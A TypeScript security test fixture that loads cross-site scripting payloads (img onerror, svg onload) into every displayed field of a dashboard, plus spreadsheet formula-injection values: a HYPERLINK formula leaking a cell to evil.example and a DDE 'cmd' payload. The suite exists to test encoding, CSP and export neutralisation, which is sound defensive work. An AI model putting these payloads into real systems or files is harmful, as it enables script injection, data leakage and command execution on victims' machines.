import { ingestRecords } from '../../ingest/index.ts';
import type { Warehouse } from '../../lib/warehouse/index.ts';

/**
 * The attack suite's payloads, loaded through the product's own ingest jobs into every text field
 * the dashboard displays. Each payload names its field, so a failure says where the hole is.
 *
 * A payload calls `xssfired(field)` if the browser runs it (the suite exposes that binding), and
 * leaves an element carrying an `xssmark` attribute in the DOM if it was inserted as HTML at all,
 * even when the Content-Security-Policy stops the handler: the suite checks both, so output
 * encoding and the CSP are each tested on their own. No `_` or `-` in the active parts or the field
 * names: labels are humanized on the way ("closed_lost" → "Closed lost"), which would defuse a
 * payload that depends on them and hide a real hole.
 */
export const xss = (field: string): string =>
  `X ${field}<img src=x xssmark="${field}" onerror="xssfired('${field}')">'"><svg xssmark="${field}" onload="xssfired('${field}')"></svg>`;

/** A spreadsheet formula: an export must neutralise it (leading apostrophe), not hand it to Excel. */
export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

export const PLANT_SOURCE = 'attack';
export const OWNER = 'U-OWN-01';
export const CUSTOMERS = 30;
/** The customer whose name is the spreadsheet formula (the others carry HTML payloads). */
export const FORMULA_CUSTOMER = 'atk-0';
/** A formula after a `;`: Excel in a `;` locale (German, French…) starts a cell there (fourth review). */
export const SEMICOLON_FORMULA = "Müller;=cmd|' /C calc'!A0";
/** In EMEA (even index) like the formula customer, so it is in the suite's segment export too. */
export const SEMICOLON_CUSTOMER = 'atk-2';

const day = (iso: string, plusDays: number): string => new Date(Date.parse(`${iso}T00:00:00Z`) + plusDays * 86_400_000).toISOString().slice(0, 10);

/** Loads the planted customers and their facts; `today` is the demo's as-of day. */
export async function plantPayloads(wh: Warehouse, today: string): Promise<void> {
  const load = async (entity: Parameters<typeof ingestRecords>[1], records: Record<string, unknown>[]): Promise<void> => {
    const summary = await ingestRecords(wh, entity, records, { source: PLANT_SOURCE, batchLabel: `security-suite:${entity}` });
    if (summary.rejected > 0) throw new Error(`planting ${entity}: ${summary.rejected} rejected: ${JSON.stringify(summary.rejects?.slice(0, 3))}`);
  };
  const ids = Array.from({ length: CUSTOMERS }, (_, i) => `atk-${i}`);
  await load(
    'customers',
    ids.map((id, i) => ({
      source_id: id,
      customer_type: 'business',
      name: id === FORMULA_CUSTOMER ? FORMULA : id === SEMICOLON_CUSTOMER ? SEMICOLON_FORMULA : xss('customer.name'),
      email: `${id}@attack.example`,
      company: xss('customer.company'),
      city: xss('customer.city'),
      country: 'DE',
      region: i % 2 ? xss('customer.region') : 'EMEA',
      acquisition_channel: xss('customer.channel'),
      owner_id: OWNER,
      signup_date: day(today, -700),
    })),
  );
  // Two years of orders each, the last ones long ago for half of them (so they rank high on churn risk).
  await load(
    'transactions',
    ids.flatMap((id, i) =>
      Array.from({ length: 8 }, (_, k) => ({
        transaction_id: `${id}-t${k}`,
        order_id: `${id}-o${k}`,
        customer_ref: id,
        order_date: `${day(today, -690 + k * 60 + (i % 2 ? 0 : 180))}T10:00:00`,
        status: 'completed',
        amount: String(500 + i * 37 + k * 11),
        product_id: `atk-p${k % 3}`,
        product_name: xss('transaction.product'),
        category: xss('transaction.category'),
        channel: xss('transaction.channel'),
      })),
    ),
  );
  // Lost deals in the last quarter and none before, so the reason tops the "change in lost deals" chart.
  await load(
    'opportunities',
    ids.flatMap((id, i) =>
      Array.from({ length: 3 }, (_, k) => ({
        opportunity_id: `${id}-d${k}`,
        customer_ref: id,
        owner_id: OWNER,
        name: xss('deal.name'),
        product: xss('deal.product'),
        amount: String(20_000 + i * 500),
        stage: k === 2 ? xss('deal.stage') : 'Proposal',
        status: k === 2 ? 'open' : 'lost',
        loss_reason: k === 2 ? '' : xss('deal.lossreason'),
        competitor: xss('deal.competitor'),
        notes: xss('deal.notes'),
        created_at: day(today, -120 - i),
        closed_at: k === 2 ? null : day(today, -10 - i * 2 - k),
        expected_close_at: day(today, 30),
      })),
    ),
  );
  await load(
    'interactions',
    ids.map((id, i) => ({
      interaction_id: `${id}-i`,
      customer_ref: id,
      occurred_at: `${day(today, -20 - i)}T09:00:00`,
      type: 'support_ticket',
      channel: xss('interaction.channel'),
      direction: 'inbound',
      outcome: xss('interaction.outcome'),
      owner_id: OWNER,
      subject: xss('interaction.subject'),
    })),
  );
  await load('campaigns', [
    { campaign_id: 'atk-campaign', name: xss('campaign.name'), channel: xss('campaign.channel'), objective: xss('campaign.objective'), started_at: day(today, -60) },
  ]);
  await load(
    'campaign_members',
    ids.map((id, i) => ({ campaign_id: 'atk-campaign', customer_ref: id, added_at: `${day(today, -60)}T08:00:00`, status: i % 3 ? 'sent' : 'responded', responded_at: i % 3 ? null : `${day(today, -50)}T08:00:00` })),
  );
  // Marketing e-mail consent, so the planted customers are in segment exports (issue 16); the
  // channel is shown on the 360 page's consent panel.
  await load(
    'consents',
    ids.map((id) => ({ consent_id: `${id}-c`, customer_ref: id, purpose: 'marketing_email', status: 'granted', occurred_at: `${day(today, -600)}T08:00:00`, channel: xss('consent.channel'), evidence: xss('consent.evidence') })),
  );
}
